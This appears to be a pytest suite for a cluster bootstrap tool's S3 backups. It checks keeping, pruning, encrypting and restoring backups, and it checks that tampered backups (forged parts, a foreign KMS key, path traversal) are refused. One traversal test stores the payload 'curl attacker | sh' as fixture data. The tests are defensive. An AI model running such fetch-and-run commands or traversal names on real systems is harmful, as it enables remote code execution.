"""Backups in S3 (moto): kept, pruned, and refused before anything is touched."""

from __future__ import annotations

import base64
import hashlib
import json
import os
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache, partial
from pathlib import Path
from typing import Any

import pytest
from moto import mock_aws

from bootstrap.aws import environments, ssm
from bootstrap.aws.api import Api
from bootstrap.config.model import Archive, Backup, Environment, Generate, Seed
from bootstrap.core.clock import FakeClock
from bootstrap.core.errors import PermanentError, PreflightError
from bootstrap.local.aws.patches import bucket_policies
from bootstrap.recovery import manifest
from bootstrap.recovery.etcd import Wait
from bootstrap.recovery.keys import FileKey, KmsKey
from bootstrap.recovery.manifest import Consent, EtcdStatus, Manifest
from bootstrap.recovery.store import Store
from bootstrap.recovery.vault import vault
from bootstrap.run.events import Notice
from bootstrap.steps import access, backup, preflight, restore
from bootstrap.steps.backup import Begun
from bootstrap.steps.restore import Rebuilding, RestoreRequest
from tests.argo_objects import application, root
from tests.aws_context import ACCOUNT, World, environment, world
from tests.aws_context import client as make_client
from tests.kubernetes_fake import FakeServer

client = cache(make_client)  # making one takes longer than to ask it
BUCKET = f"eco2-dev-backups-{ACCOUNT}"
PASSWORD = "/eco2/dev/db/password"
VALUE = "canary-5f0c1d"
SEEDS = (Seed("db/password", generate=Generate()),)


@pytest.fixture(autouse=True)
def aws(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    bucket_policies.apply(monkeypatch.setattr)
    monkeypatch.setattr(access, "existing", lambda _: FakeServer().cluster)
    with mock_aws():
        client("ssm").put_parameter(Name=PASSWORD, Value=VALUE, Type="SecureString")
        yield


def snapshot(_store: Store, _backup: str, into: Path, _wait: Wait) -> EtcdStatus:
    database = os.urandom(4096)
    into.write_bytes(database + hashlib.sha256(database).digest())
    return EtcdStatus(100, 7, 90)


def a_world(tmp_path: Path, now: float = 1_750_000_000.0, **changes: Any) -> World:
    config = environment(tmp_path, **{"seeds": SEEDS, **changes})
    made = world(config, client=client, clock=FakeClock(now), revision=lambda: "c" * 40)
    made.context.run_folder.mkdir(parents=True, exist_ok=True)
    return made


def take(made: World) -> str:
    """A whole backup; its id."""
    for step in (backup.begin, partial(backup.take, snapshot=snapshot), backup.store):
        if (result := step(made.context).result) is not None:
            made.context.results.put(result)
    return stored(made).id


def stored(made: World) -> Manifest:
    """What the bucket has of the backup that was made."""
    begun = made.context.results.get(Begun)
    return begun.vault.store.manifest(begun.manifest.id)


def check(made: World, which: str = "latest", **request: Any) -> Rebuilding:
    found = restore.check(made.context, RestoreRequest(which, **request)).result
    assert isinstance(found, Rebuilding)
    return found


@pytest.fixture
def emptied(tmp_path: Path) -> World:
    """A backup, and an account that is empty but for it."""
    take(a_world(tmp_path))
    client("ssm").delete_parameter(Name=PASSWORD)
    return a_world(tmp_path)


def refusal(made: World, **request: Any) -> str:
    """Why it is refused; nothing in AWS has changed then."""

    def there() -> tuple[Any, ...]:
        vpcs = [item["VpcId"] for item in client("ec2").describe_vpcs()["Vpcs"]]
        objects = [item["ETag"] for item in client("s3").list_objects_v2(Bucket=BUCKET)["Contents"]]
        return vpcs, objects, ssm.names(Api(client("ssm")))

    before = there()
    with pytest.raises(PreflightError) as refused:
        check(made, **request)
    assert there() == before
    assert refused.value.exit_code == 3
    assert "nothing was touched" in str(refused.value)
    return str(refused.value)


def test_a_backup_opens_with_what_it_was_made_of(emptied: World) -> None:
    found = check(emptied)
    assert found.seeds == {"db/password": VALUE}
    assert found.manifest.commit == "c" * 40
    assert VALUE not in repr(found)


def test_a_backup_of_a_sick_cluster_is_made_and_says_so(tmp_path: Path) -> None:
    made = a_world(tmp_path)
    id_ = take(made)
    (notice,) = made.of(Notice)
    assert notice.message.startswith("this backup is of a cluster that is not healthy: Argo CD: not there; ")
    assert "bootstrap diagnose" in notice.message
    about = stored(made)
    assert "Node cp: is not in the cluster" in about.ailments
    client("ssm").delete_parameter(Name=PASSWORD)
    later = a_world(tmp_path)
    check(later)
    (notice,) = later.of(Notice)
    assert notice.message.startswith(f"backup {id_} is of a cluster that was not healthy: Argo CD: ")


def healthy() -> FakeServer:
    """A cluster of one node and one Application."""
    server = FakeServer()
    ready = {"conditions": [{"type": "Ready", "status": "True"}]}
    server.put({"apiVersion": "v1", "kind": "Node", "metadata": {"name": "cp"}, "status": ready})
    server.put(root({"a": 0}, commit="c" * 40))
    server.put(application("a", commit="c" * 40))
    for space in ("argocd", "external-secrets"):
        meta = {"name": "server", "namespace": space}
        status = {"observedGeneration": 1, "updatedReplicas": 1, "availableReplicas": 1}
        server.put({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": meta, "status": status})
    return server


def test_a_backup_of_a_healthy_cluster_says_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(access, "existing", lambda _: healthy().cluster)
    made = a_world(tmp_path)
    take(made)
    assert stored(made).ailments == ()
    assert made.of(Notice) == []


def test_no_plain_value_leaves_the_machine_or_stays_on_it(tmp_path: Path) -> None:
    made = a_world(tmp_path)
    take(made)
    s3 = client("s3")
    for item in s3.list_objects_v2(Bucket=BUCKET)["Contents"]:
        assert VALUE.encode() not in s3.get_object(Bucket=BUCKET, Key=item["Key"])["Body"].read()
    for file in made.context.run_folder.rglob("*"):
        assert not file.is_file() or VALUE.encode() not in file.read_bytes()


def test_only_the_newest_are_kept_with_no_version_of_the_others(tmp_path: Path) -> None:
    ids = [take(a_world(tmp_path, now, backup=Backup(keep=2))) for now in (1e9, 2e9, 3e9)]
    store = vault(environment(tmp_path), a_world(tmp_path).context.target, ACCOUNT).store
    assert store.ids() == tuple(ids[1:])
    found = client("s3").list_object_versions(Bucket=BUCKET, Prefix=f"dev/{ids[0]}")
    assert not found.get("Versions")
    assert not found.get("DeleteMarkers")


def test_one_without_its_manifest_is_none(emptied: World) -> None:
    client("s3").delete_object(Bucket=BUCKET, Key=f"dev/{check(emptied).manifest.id}/manifest.json")
    assert "there is no backup" in refusal(emptied)


def damage(name: str, change: Callable[[bytes], bytes]) -> None:
    s3 = client("s3")
    (key,) = (
        item["Key"] for item in s3.list_objects_v2(Bucket=BUCKET)["Contents"] if item["Key"].endswith(name)
    )
    s3.put_object(Bucket=BUCKET, Key=key, Body=change(s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()))


def _manifest(**changes: Any) -> Callable[[bytes], bytes]:
    return lambda content: json.dumps({**json.loads(content), **changes}).encode()


def _honest_about_a_forgery(content: bytes) -> bytes:
    """Somebody who can write to the bucket replaced the seeds, and the manifest agrees."""
    plain = json.loads(content)
    forged = b"forged" * 20
    for part in plain["parts"]:
        if part["name"] == "seeds.json":
            part |= {"sha256": hashlib.sha256(forged).hexdigest(), "size": len(forged)}
    damage("seeds.json", lambda _: forged)
    return json.dumps(plain).encode()


@pytest.mark.parametrize(
    ("name", "change", "why"),
    [
        ("etcd.db", lambda content: content[:-1], "etcd.db has 4155 bytes|written were"),
        ("etcd.db", lambda content: content[:-1] + bytes([content[-1] ^ 1]), "SHA-256 differs"),
        ("manifest.json", lambda content: content[:40], "cannot be read"),
        ("manifest.json", _manifest(format=99), "its format is 99"),
        ("manifest.json", _manifest(project="other"), "it is of project other"),
        ("manifest.json", _manifest(id="20200101T000000Z"), "cannot be opened"),
        ("manifest.json", _honest_about_a_forgery, "was not encrypted with its key"),
    ],
)
def test_a_damaged_backup_is_refused(
    emptied: World, name: str, change: Callable[[bytes], bytes], why: str
) -> None:
    damage(name, change)
    assert any(each in refusal(emptied) for each in why.split("|"))


def test_a_missing_part_is_named(emptied: World) -> None:
    client("s3").delete_object(Bucket=BUCKET, Key=f"dev/{check(emptied).manifest.id}/objects.json")
    assert "objects.json is missing" in refusal(emptied)


def test_an_environment_that_is_not_empty_is_refused(emptied: World) -> None:
    tags = [{"Key": key, "Value": value} for key, value in emptied.context.config.tags.items()]
    vpc = client("ec2").create_vpc(
        CidrBlock="10.0.0.0/16", TagSpecifications=[{"ResourceType": "vpc", "Tags": tags}]
    )
    assert f"the environment is not empty: ec2 VPC {vpc['Vpc']['VpcId']}" in refusal(emptied)


def test_what_the_last_down_kept_is_no_environment(emptied: World) -> None:
    config = emptied.context.config
    environments.write(Api(client("ssm")), config, environments.Record("eco2", "dev", config.region))
    tags = [{"Key": key, "Value": value} for key, value in config.tags.items()]
    client("ssm").put_parameter(Name=PASSWORD, Value="kept", Type="SecureString", Tags=tags)
    assert check(emptied).seeds == {"db/password": VALUE}


def test_a_restore_that_was_begun_goes_on_and_no_other_begins(emptied: World) -> None:
    emptied.context.results.put(check(emptied))
    restore.order(emptied.context)
    tags = [{"Key": key, "Value": value} for key, value in emptied.context.config.tags.items()]
    client("ec2").create_vpc(
        CidrBlock="10.0.0.0/16", TagSpecifications=[{"ResourceType": "vpc", "Tags": tags}]
    )
    begun = check(emptied).manifest.id
    assert restore.order(emptied.context).changed is False
    (problem,) = preflight._restore(emptied.context)
    assert f"--from-backup {begun}" in problem.cure, "a plain `up` would wait for it for ever"
    take(a_world(emptied.context.config.home, now=1_900_000_000.0))
    assert f"a restore of backup {begun} is under way" in refusal(emptied)


def test_what_another_run_has_made_meanwhile_is_not_restored_over(emptied: World) -> None:
    emptied.context.results.put(check(emptied))
    tags = [{"Key": key, "Value": value} for key, value in emptied.context.config.tags.items()]
    client("ec2").create_vpc(
        CidrBlock="10.0.0.0/16", TagSpecifications=[{"ResourceType": "vpc", "Tags": tags}]
    )
    client("ssm").put_parameter(Name="/eco2/dev/database/archive", Value="x", Type="String", Tags=tags)
    with pytest.raises(PreflightError, match=r"is not empty: ec2 VPC [^,]*$"):
        restore.order(emptied.context)
    assert restore.pending(emptied.context) == ""


def test_another_commit_is_told_or_refused(emptied: World) -> None:
    moved = replace(emptied.context.target, revision=lambda: "d" * 40)
    context = replace(emptied.context, target=moved)
    assert restore.check(context, RestoreRequest("latest")).result is not None
    assert any("Argo CD will bring" in str(event) for event in emptied.events)
    with pytest.raises(PreflightError, match="main is at dddddddddd"):
        restore.check(context, RestoreRequest("latest", gitops_only=True))


def test_another_account_needs_a_word(tmp_path: Path, emptied: World) -> None:
    damage("manifest.json", _manifest(account="999999999999"))
    assert "--other-account" in refusal(emptied)
    assert check(emptied, consent=Consent(account=True)).manifest.account == "999999999999"


# -- keys ----------------------------------------------------------------------------------------------

BOUND = {"project": "eco2", "backup": "1"}


def test_a_key_file_is_made_once_and_opens_only_its_own(tmp_path: Path) -> None:
    key = FileKey(tmp_path / "folder" / "key")
    data_key, wrapped = key.new(BOUND)
    assert key.path.stat().st_mode & 0o777 == 0o600
    assert key.open(wrapped, BOUND) == data_key
    again, _ = key.new(BOUND)
    assert again != data_key, "each backup has its own"
    with pytest.raises(PermanentError, match="not the key it was made with"):
        key.open(wrapped, {**BOUND, "backup": "2"})
    other = FileKey(tmp_path / "other")
    other.new(BOUND)
    with pytest.raises(PermanentError, match="not the key it was made with"):
        other.open(wrapped, BOUND)
    with pytest.raises(PermanentError, match="cannot be read"):
        FileKey(tmp_path / "nowhere").open(wrapped, BOUND)
    other.path.write_text("too short")
    with pytest.raises(PermanentError, match="is not 32 bytes"):
        other.open(wrapped, BOUND)


def test_a_kms_key_outlives_the_environment() -> None:
    key = KmsKey(Api(client("kms")), "alias/eco2-dev-backups", {"bootstrap:backups-of": "eco2/dev"})
    data_key, wrapped = key.new(BOUND)
    assert key.new(BOUND)[1]["key"] == wrapped["key"], "made once"
    assert key.open(wrapped, BOUND) == data_key
    with pytest.raises(PermanentError, match="KMS refuses"):
        key.open(wrapped, {**BOUND, "backup": "2"})
    with pytest.raises(PermanentError, match="of kind file"):
        key.open({"kind": "file"}, BOUND)
    about = client("kms").describe_key(KeyId=wrapped["key"])["KeyMetadata"]
    tags = client("kms").list_resource_tags(KeyId=about["KeyId"])["Tags"]
    assert {tag["TagKey"] for tag in tags} == {"bootstrap:backups-of"}, "`down` does not know it as its own"


def test_the_configuration_says_whose_key(tmp_path: Path) -> None:
    def key(config: Environment, **target: Any) -> object:
        return vault(config, world(config, client=client, **target).context.target, ACCOUNT).key

    config, file = environment(tmp_path), tmp_path / "key"
    assert isinstance(key(config), KmsKey)
    assert key(config, backup_key=file) == FileKey(file)
    named = replace(config, backup=Backup(key_file=tmp_path / "mine"))
    assert key(named, backup_key=file) == FileKey(tmp_path / "mine")


# -- a backup that somebody has tampered with -----------------------------------------------------------


def bent(change: Callable[[dict[str, Any]], object]) -> None:
    """Its manifest says something else now."""

    def bend(content: bytes) -> bytes:
        plain = json.loads(content)
        change(plain)
        return json.dumps(plain).encode()

    damage("manifest.json", bend)


@pytest.mark.parametrize("relative", [True, False])
def test_no_part_is_written_outside_of_the_runs_folder(
    tmp_path: Path, emptied: World, relative: bool
) -> None:
    victim, evil = tmp_path / "victim", b"curl attacker | sh"
    victim.write_text("mine")
    id_, folder = check(emptied).manifest.id, emptied.context.run_folder / "backup"
    name = os.path.relpath(victim, folder) if relative else str(victim)
    client("s3").put_object(Bucket=BUCKET, Key=f"dev/{id_}/{name}", Body=evil)
    part = {"name": name, "sha256": hashlib.sha256(evil).hexdigest(), "size": len(evil)}
    bent(lambda plain: plain["parts"].append(part))
    assert "names a part" in refusal(emptied)
    assert victim.read_text() == "mine"


def test_a_key_that_is_not_the_vaults_opens_nothing(emptied: World) -> None:
    """One of the attacker's, open to us: whatever they made up would decrypt."""
    theirs = client("kms").create_key()["KeyMetadata"]
    about = check(emptied).manifest
    made = client("kms").generate_data_key(
        KeyId=theirs["Arn"], KeySpec="AES_256", EncryptionContext=about.bound
    )
    wrapped = {"key": theirs["Arn"], "data_key": base64.b64encode(made["CiphertextBlob"]).decode()}
    bent(lambda plain: plain["key"].update(wrapped))
    before = set(emptied.context.run_folder.rglob("*"))
    assert "names another key than alias/eco2-dev-backups" in refusal(emptied)
    assert set(emptied.context.run_folder.rglob("*")) == before, "nothing was fetched"


def test_a_key_of_our_alias_in_other_hands_is_not_used(emptied: World) -> None:
    theirs = client("kms").create_key()["KeyMetadata"]
    client("kms").update_alias(AliasName="alias/eco2-dev-backups", TargetKeyId=theirs["KeyId"])
    assert "alias/eco2-dev-backups is not ours" in refusal(emptied)
    with pytest.raises(PermanentError, match="is not ours"):
        take(a_world(emptied.context.config.home, now=1_900_000_000.0))


@pytest.mark.parametrize("data_key", ["", "?", "AAAA", None])
def test_a_data_key_that_is_none_is_refused(emptied: World, data_key: object) -> None:
    bent(lambda plain: plain["key"].update(data_key=data_key))
    assert "nothing was touched" in refusal(emptied)


def test_an_old_backup_under_a_new_id_is_not_the_newest(emptied: World) -> None:
    id_ = check(emptied).manifest.id
    old = client("s3").get_object(Bucket=BUCKET, Key=f"dev/{id_}/manifest.json")["Body"].read()
    client("s3").put_object(Bucket=BUCKET, Key="dev/20280101T000000Z/manifest.json", Body=old)
    assert f"backup 20280101T000000Z cannot be opened. its manifest is that of backup '{id_}'" in refusal(
        emptied
    )


def test_what_is_larger_than_a_backup_can_be_is_not_read(
    emptied: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(manifest, "LONGEST", 100)
    assert "at most 100 are read" in refusal(emptied)


def test_a_part_that_has_grown_is_not_fetched(emptied: World) -> None:
    damage("seeds.json", lambda content: content + b"x" * 4096)
    assert "written were" in refusal(emptied)
    assert not [file for file in emptied.context.run_folder.rglob("seeds.json") if file.stat().st_size > 4096]


def test_databases_come_from_no_other_place_than_the_configured_one(tmp_path: Path, emptied: World) -> None:
    config = replace(emptied.context.config, archive=Archive("archive"))
    here = World(replace(emptied.context, config=config), emptied.events)
    bent(lambda plain: plain.update(archive="attacker/databases/eco2/dev/20250101T000000Z"))
    assert "which is not below archive/databases/eco2/dev" in refusal(here)
    assert check(here, consent=Consent(account=True)).manifest.archive.startswith("attacker/")
    bent(lambda plain: plain.update(archive="archive/databases/eco2/dev/20250101T000000Z"))
    assert check(here).manifest.archive.startswith("archive/")
